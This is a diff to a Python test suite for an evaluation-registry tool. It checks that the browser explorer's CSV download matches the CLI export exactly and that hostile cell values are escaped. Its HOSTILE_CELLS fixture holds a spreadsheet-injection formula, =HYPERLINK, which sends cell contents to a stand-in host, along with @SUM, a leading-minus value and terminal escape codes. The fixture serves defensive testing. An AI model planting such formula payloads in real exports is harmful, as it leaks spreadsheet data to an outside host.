@@ -506,3 +506,37 @@ def test_the_filtered_rows_download_as_csv(explored: Repo, cli, driver):
     verdicts = {cid: "pass" if v["passed"] else "fail" for cid, v in record["criteria"].items()}
     assert row[7:9] == [verdicts.get("valid_json", ""), verdicts.get("label", "")]
     assert row[9:12] == [str(record["latency_ms"]), *map(str, record["tokens"].values())][:3]
+
+
+HOSTILE_CELLS = {
+    "0": '=HYPERLINK("http://x.example/?"&A1, "click")',
+    "1": "\x1b[31mred\x1b[0m and a bell\x07, then\r\nanother line",
+    "2": '-5, "quoted", and a tab\there',
+    "3": "\t@SUM(1)",
+}
+
+
+@needs_browser
+def test_the_pages_csv_is_the_export_byte_for_byte(live: Repo, server, cli, driver):
+    """Every row, then the rows of one candidate on one slice: the page's download holds
+    what `evalreg export` writes for them, formulas, controls and quotes included."""
+    import csv
+    import io
+
+    server.responder = lambda request: HOSTILE_CELLS[request.body["messages"][-1]["content"][-1]]
+    assert cli(live, "run", "--no-push").code == 0
+    live.commit("results")
+    assert cli(live, "view").code == 0
+    exported = cli(live, "export", "labels", "--format", "csv")
+    assert exported.code == 0, exported.err
+    open_page(driver, live.root / "reports/explorer/labels.html")
+    page = driver.execute_script("return evalregExplorer.csv()")
+    assert page == exported.out
+    assert "'=HYPERLINK" in page and "\x1b" not in page and "'-5, " in page
+    choose(driver, "f-cand", "mini")
+    choose(driver, "f-slice", "edge")
+    filtered = driver.execute_script("return evalregExplorer.csv()")
+    rows = list(csv.reader(io.StringIO(exported.out)))
+    kept = [r for r in rows[1:] if r[3] == "mini" and "edge" in r[2].split()]
+    assert len(kept) == 2
+    assert list(csv.reader(io.StringIO(filtered))) == [rows[0], *kept]
